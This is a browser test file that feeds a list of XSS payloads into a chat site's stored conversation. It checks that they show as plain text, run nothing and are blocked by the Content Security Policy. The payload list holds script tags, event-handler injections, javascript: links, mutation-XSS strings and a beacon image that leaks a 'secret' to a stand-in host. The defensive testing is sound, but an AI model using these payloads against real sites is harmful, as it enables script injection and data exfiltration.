// A model may output any HTML of its training data. It is shown as text and runs nothing, and the page's
// policy would block it.
import type { Page } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { openSite, type Site } from "./site.ts";

const HOSTILE = [
  "<script>hacked = 1</script>",
  '<img src=x onerror="hacked = 1">',
  "![beacon](https://beacon.test/?said=secret)",
  "<svg onload='hacked = 1'><script>hacked = 1</script></svg>",
  "[click](javascript:hacked=1) [click](JaVaScRiPt&colon;hacked=1) [click](data:text/html,<script>hacked=1</script>)",
  "[title](https://example.org \"x' onmouseover='hacked=1\")",
  '<a href="javascript:hacked=1" onclick="hacked=1">click</a> <javascript:hacked=1>',
  "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe><object data=x></object><embed src=x>",
  "<style>body { display: none }</style><link rel=stylesheet href=https://beacon.test/a.css>",
  "<p style='position:fixed;inset:0'>over everything</p><base href=https://beacon.test/>",
  "<form action=https://beacon.test/><input name=q autofocus onfocus=hacked=1><button>ok</button></form>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=hacked=1&gt;'>",
  "```html\n</code></pre><img src=x onerror=hacked=1>\n```",
  "`</code><img src=x onerror=hacked=1>`",
  '```"onmouseover=hacked=1\n```',
  "```html' class=sr-only onload=hacked=1\n```",
  "$x$ $\\href{javascript:hacked=1}{y}$ $\\htmlData{a=b}{x}$ $\\text{</math><img src=x onerror=hacked=1>}$ $z$",
  "<details open ontoggle=hacked=1><video><source onerror=hacked=1></video>",
  "<div id=sirocco-app name=conversation><meta http-equiv=refresh content='0;url=https://beacon.test/'>",
].join("\n\n");

let site: Site;
let page: Page;
const asked: string[] = [];
beforeAll(async () => {
  site = await openSite();
  await site.context.addInitScript((content) => {
    const turns = [
      { role: "user", content },
      { role: "assistant", content },
    ];
    localStorage.setItem("sirocco.conversation.h", JSON.stringify({ id: "h", updated: 1, turns }));
  }, HOSTILE);
  page = await site.open();
  page.on("request", (request) => asked.push(request.url()));
  await page.goto(`${site.url}#h`);
  await page.reload();
  await page.locator("markdown-text").getByText("over everything").first().waitFor();
  await page.locator("markdown-text math").first().waitFor();
  await page.locator("markdown-text .hljs-tag").first().waitFor();
});
afterAll(() => site?.close());

test("the page contains only text, formatting and links", async () => {
  const found = await page.locator("markdown-text").evaluate((answer) => {
    // The frames of code blocks are the page's own.
    for (const bar of answer.querySelectorAll(".code .bar")) bar.remove();
    const elements = [...answer.querySelectorAll("*")];
    return {
      tags: [...new Set(elements.map(({ localName }) => localName))].sort(),
      classes: [...new Set(elements.flatMap(({ classList }) => [...classList]))],
      attributes: [...new Set(elements.flatMap((each) => each.getAttributeNames()))].sort(),
      links: [...answer.querySelectorAll("a")].map(({ href, rel }) => `${new URL(href).protocol} ${rel}`),
    };
  });
  expect(found.tags).toEqual(["a", "code", "div", "math", "mi", "mrow", "mtext", "p", "pre", "span"]);
  expect(found.attributes).toEqual(["class", "href", "rel", "tabindex", "target"]);
  expect(found.classes.filter((name) => !/^(code|math|hljs-.*|language-html)$/.test(name))).toEqual([]);
  expect(new Set(found.links)).toEqual(new Set(["https: noopener noreferrer nofollow"]));
});

test("it is shown as written", async () => {
  const text = await page.locator("markdown-text").textContent();
  expect(text).toContain("<script>hacked = 1</script>");
  expect(text).toContain("![beacon](https://beacon.test/?said=secret)");
});

test("it ran nothing and sent no request", async () => {
  for (const link of await page.locator("markdown-text a").all()) await link.dispatchEvent("mouseover");
  await page.waitForTimeout(200);
  expect(await page.evaluate(() => "hacked" in globalThis)).toBe(false);
  expect(asked.filter((url) => !url.startsWith(new URL(".", site.url).href))).toEqual([]);
  expect(await page.locator("#scroller").isVisible()).toBe(true);
});

test("the policy blocks markup that the renderer might miss", async () => {
  const policy = await page.locator("meta[http-equiv=Content-Security-Policy]").getAttribute("content");
  expect(policy).toMatch(/script-src 'self' 'wasm-unsafe-eval';/);
  expect(policy).not.toMatch(/(?<!wasm-)unsafe|[ ;]\*|script-src[^;]*(data|https):/);
  const ran = await page.evaluate(async () => {
    const refused: string[] = [];
    addEventListener("securitypolicyviolation", ({ effectiveDirective }) => refused.push(effectiveDirective));
    const script = document.createElement("script");
    script.textContent = "hacked = 2";
    document.body.append(script);
    const holder = document.createElement("div");
    holder.innerHTML =
      "<img src=x: onerror='hacked = 3'><img src='https://beacon.test/a.png'><style>body{}</style><iframe src='data:text/html,x'></iframe>";
    document.body.append(holder);
    await new Promise((resolve) => setTimeout(resolve, 300));
    holder.remove();
    // After the call from outside, which may use eval when the page may not.
    try {
      Function("hacked = 4")();
    } catch {
      refused.push("eval");
    }
    return { refused: [...new Set(refused)].sort(), hacked: "hacked" in globalThis };
  });
  expect(ran.hacked).toBe(false);
  expect(ran.refused).toEqual(
    expect.arrayContaining([
      "eval",
      "frame-src",
      "img-src",
      "script-src-attr",
      "script-src-elem",
      "style-src-elem",
    ]),
  );
});
